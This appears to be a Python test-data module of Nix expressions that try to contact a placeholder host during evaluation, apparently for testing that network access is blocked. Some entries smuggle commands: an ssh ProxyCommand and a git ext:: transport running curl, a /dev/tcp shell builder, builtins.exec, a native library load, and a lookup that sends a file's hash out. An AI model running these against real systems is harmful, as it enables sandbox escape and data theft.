"""Ways in which Nix text may ask for something of a host, each an expression around `@URL@`, `@HOST@` and `@PORT@`.

What a Nix lacks it refuses in its own way; the list holds for all from 2.8 on.
"""

from __future__ import annotations

__all__ = ["ADDRESSES", "FLAKE_INPUTS", "SPELLINGS"]

_HASH = "sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA="
_ZEROS = "0" * 52
_REVISION = "1" * 40
# Derivations that would have to be built for the evaluation to go on.
_BUILTIN = (
    'derivation {{ name = "x"; system = "builtin"; builder = "builtin:fetchurl"; url = "@URL@/{0}"; '
    'outputHashMode = "flat"; outputHashAlgo = "sha256"; outputHash = "{1}"; preferLocalBuild = true; }}'
)
_SHELL = (
    'derivation {{ name = "x"; system = builtins.currentSystem; builder = "/bin/sh"; {0}'
    'args = [ "-c" "exec 3<>/dev/tcp/@HOST@/@PORT@; curl @URL@/s; echo 1 > $out" ]; }}'
)

SPELLINGS = {
    "fetchurl": 'builtins.fetchurl "@URL@/a"',
    "fetchurl of a set": 'builtins.fetchurl { url = "@URL@/a"; }',
    "fetchurl with a hash": f'builtins.fetchurl {{ url = "@URL@/a"; sha256 = "{_ZEROS}"; }}',
    "fetchurl with a name": 'builtins.fetchurl { url = "@URL@/a"; name = "b"; }',
    "readFile of fetchurl": 'builtins.readFile (builtins.fetchurl "@URL@/a")',
    "fetchTarball": 'builtins.fetchTarball "@URL@/a.tar.gz"',
    "fetchTarball of a set": 'builtins.fetchTarball { url = "@URL@/a.tar.gz"; }',
    "fetchTarball with a hash": f'builtins.fetchTarball {{ url = "@URL@/a.tar.gz"; sha256 = "{_HASH}"; }}',
    "fetchTarball without builtins": 'fetchTarball "@URL@/a.tar.gz"',
    "import of fetchTarball": 'import (fetchTarball "@URL@/a.tar.gz") { }',
    "a bare URL": "fetchTarball @URL@/a.tar.gz",
    "scopedImport": 'builtins.scopedImport { } (fetchTarball "@URL@/a.tar.gz")',
    "fetchurl by scopedImport": (
        'builtins.scopedImport { u = "@URL@/s"; } (builtins.toFile "a.nix" "builtins.fetchurl u")'
    ),
    "fetchGit": 'builtins.fetchGit "@URL@/a.git"',
    "fetchGit of a set": 'builtins.fetchGit { url = "@URL@/a.git"; ref = "main"; }',
    "fetchGit with a revision": f'builtins.fetchGit {{ url = "@URL@/a.git"; rev = "{_REVISION}"; }}',
    "fetchGit of all refs": f'builtins.fetchGit {{ url = "@URL@/a.git"; rev = "{_REVISION}"; allRefs = true; }}',
    "fetchGit git+http": 'builtins.fetchGit "git+@URL@/a.git"',
    "fetchGit git://": 'builtins.fetchGit "git://@HOST@:@PORT@/a.git"',
    "fetchGit ssh://": 'builtins.fetchGit "ssh://git@@HOST@:@PORT@/a.git"',
    "fetchGit with a proxy command": 'builtins.fetchGit "ssh://-oProxyCommand=curl%20@URL@/a.git"',
    "fetchGit ext::": 'builtins.fetchGit "ext::sh -c curl% @URL@/s"',
    "fetchGit of submodules": 'builtins.fetchGit { url = "@URL@/a.git"; submodules = true; }',
    "fetchMercurial": 'builtins.fetchMercurial "@URL@/a"',
    "fetchMercurial of a set": f'builtins.fetchMercurial {{ url = "@URL@/a"; rev = "{_REVISION}"; }}',
    "fetchTree tarball": 'builtins.fetchTree { type = "tarball"; url = "@URL@/a.tar.gz"; }',
    "fetchTree tarball with a hash": (
        f'builtins.fetchTree {{ type = "tarball"; url = "@URL@/a.tar.gz"; narHash = "{_HASH}"; }}'
    ),
    "fetchTree file": 'builtins.fetchTree { type = "file"; url = "@URL@/a"; }',
    "fetchTree git": 'builtins.fetchTree { type = "git"; url = "@URL@/a.git"; }',
    "fetchTree hg": 'builtins.fetchTree { type = "hg"; url = "@URL@/a"; }',
    "fetchTree github": 'builtins.fetchTree { type = "github"; owner = "a"; repo = "b"; host = "@HOST@:@PORT@"; }',
    "fetchTree gitlab": 'builtins.fetchTree { type = "gitlab"; owner = "a"; repo = "b"; host = "@HOST@:@PORT@"; }',
    "fetchTree sourcehut": (
        'builtins.fetchTree { type = "sourcehut"; owner = "~a"; repo = "b"; host = "@HOST@:@PORT@"; }'
    ),
    "fetchTree of a string": 'builtins.fetchTree "tarball+@URL@/a.tar.gz"',
    "fetchTree indirect": 'builtins.fetchTree { type = "indirect"; id = "nixpkgs"; }',
    "getFlake": 'builtins.getFlake "tarball+@URL@/a.tar.gz"',
    "getFlake git": 'builtins.getFlake "git+@URL@/a.git"',
    "getFlake of the registry": 'builtins.getFlake "nixpkgs"',
    "getFlake with a revision": f'builtins.getFlake "git+@URL@/a.git?rev={_REVISION}"',
    "parseFlakeRef": 'builtins.fetchTree (builtins.parseFlakeRef "tarball+@URL@/a.tar.gz")',
    "fetchClosure": (f'builtins.fetchClosure {{ fromStore = "@URL@"; fromPath = "/nix/store/{"a" * 32}-x"; }}'),
    "fetchFinalTree": 'builtins.fetchFinalTree { type = "tarball"; url = "@URL@/a.tar.gz"; }',
    "findFile": 'builtins.findFile [ { prefix = "a"; path = "@URL@/a.tar.gz"; } ] "a"',
    "findFile below": 'builtins.findFile [ { prefix = "a"; path = "@URL@/a.tar.gz"; } ] "a/b"',
    "findFile without a prefix": 'builtins.findFile [ { prefix = ""; path = "@URL@/a.tar.gz"; } ] "x"',
    "findFile channel": 'builtins.findFile [ { prefix = "a"; path = "channel:../../@URL@"; } ] "a"',
    "findFile flake": 'builtins.findFile [ { prefix = "a"; path = "flake:tarball+@URL@/a.tar.gz"; } ] "a"',
    "findFile git": 'builtins.findFile [ { prefix = "a"; path = "git://@HOST@:@PORT@/a.git"; } ] "a"',
    "findFile ssh": 'builtins.findFile [ { prefix = "a"; path = "ssh://@HOST@:@PORT@/a"; } ] "a"',
    "findFile s3": (
        'builtins.findFile [ { prefix = "a"; path = "s3://b/k?endpoint=@HOST@:@PORT@&scheme=http"; } ] "a"'
    ),
    "findFile with what is read": (
        'builtins.findFile [ { prefix = "a"; path = "@URL@/" + builtins.hashString "sha256" '
        '(builtins.readFile ./devenv.yaml); } ] "a"'
    ),
    "findFile by __nixPath": 'let __nixPath = [ { prefix = "a"; path = "@URL@/a.tar.gz"; } ]; in <a>',
    "findFile by __findFile": 'let __findFile = _: _: builtins.fetchurl "@URL@/a"; in <a>',
    "tryEval of findFile": ('builtins.tryEval (builtins.findFile [ { prefix = "a"; path = "@URL@/a.tar.gz"; } ] "a")'),
    "nix/fetchurl.nix": f'import <nix/fetchurl.nix> {{ url = "@URL@/a"; sha256 = "{_ZEROS}"; }}',
    "read of nix/fetchurl.nix": (
        f'builtins.readFile (import <nix/fetchurl.nix> {{ url = "@URL@/a"; sha256 = "{_ZEROS}"; }})'
    ),
    "a path in angle brackets": "<nixpkgs>",
    "builtins.path": 'builtins.path { path = "@URL@/a"; }',
    "builtins.path of fetchTarball": 'builtins.path { path = fetchTarball "@URL@/a.tar.gz"; name = "a"; }',
    "filterSource": 'builtins.filterSource (_: _: true) (fetchTarball "@URL@/a.tar.gz")',
    "storePath": f'builtins.storePath "/nix/store/{"b" * 32}-x"',
    "read of a store path": f'builtins.readFile (builtins.storePath "/nix/store/{"b" * 32}-x")',
    "readFile of a URL": 'builtins.readFile "@URL@/a"',
    "readFile of /dev/tcp": "builtins.readFile /dev/tcp/@HOST@/@PORT@",
    "pathExists of a URL": 'builtins.pathExists "@URL@/a"',
    "readDir of fetchTarball": 'builtins.readDir (fetchTarball "@URL@/a.tar.gz")',
    "hashFile of fetchurl": 'builtins.hashFile "sha256" (builtins.fetchurl "@URL@/a")',
    "import of a URL": 'import "@URL@/a"',
    "exec": 'builtins.exec [ "curl" "@URL@/a" ]',
    "importNative": 'builtins.importNative ./evil.so "entry"',
    "a fixed output": f"builtins.readFile ({_BUILTIN.format('a', _ZEROS)})",
    "import of a fixed output": f"import ({_BUILTIN.format('a', _ZEROS)})",
    "a builder of a URL": f"builtins.readFile ({_SHELL.format('')})",
    "a builder outside of the sandbox": f"builtins.readFile ({_SHELL.format('__noChroot = true; ')})",
    "an impure derivation": f"builtins.readFile ({_SHELL.format('__impure = true; ')})",
    "import of a file that fetches": 'import (builtins.toFile "a.nix" "builtins.fetchurl \\"@URL@/a\\"")',
    "nixConfig in a set": '{ nixConfig.substituters = [ "@URL@" ]; a = builtins.fetchurl "@URL@/a"; }.a',
    "toPath": 'builtins.readFile (builtins.toPath (builtins.fetchurl "@URL@/a"))',
    "tryEval of fetchurl": '(builtins.tryEval (builtins.fetchurl "@URL@/a")).value',
    "addErrorContext": 'builtins.addErrorContext "@URL@" (builtins.fetchurl "@URL@/a")',
    "ftp": 'builtins.fetchurl "ftp://@HOST@:@PORT@/a"',
    "a user in a URL": 'builtins.fetchurl "http://user:word@@HOST@:@PORT@/a"',
    "a scheme in capitals": 'builtins.fetchurl "HTTP://@HOST@:@PORT@/a"',
    "s3": 'builtins.fetchurl "s3://b/k?endpoint=@HOST@:@PORT@&scheme=http"',
    "mirror": 'builtins.fetchurl "mirror://gnu/a"',
}
"""Expressions, by what they try."""

ADDRESSES = ("127.0.0.1", "localhost", "[::1]", "0.0.0.0", "127.1", "2130706433", "[::ffff:127.0.0.1]")  # noqa: S104
"""How a listener on loopback may be called."""

FLAKE_INPUTS = {
    "tarball": "tarball+@URL@/a.tar.gz",
    "tarball by its end": "@URL@/a.tar.gz",
    "git": "git+@URL@/a.git",
    "git over ssh": "git+ssh://git@@HOST@:@PORT@/a.git",
    "mercurial": "hg+@URL@/a",
    "file": "file+@URL@/a",
    "github elsewhere": "github:a/b?host=@HOST@:@PORT@",
    "registry": "nixpkgs",
}
"""Addresses of inputs, by kind."""
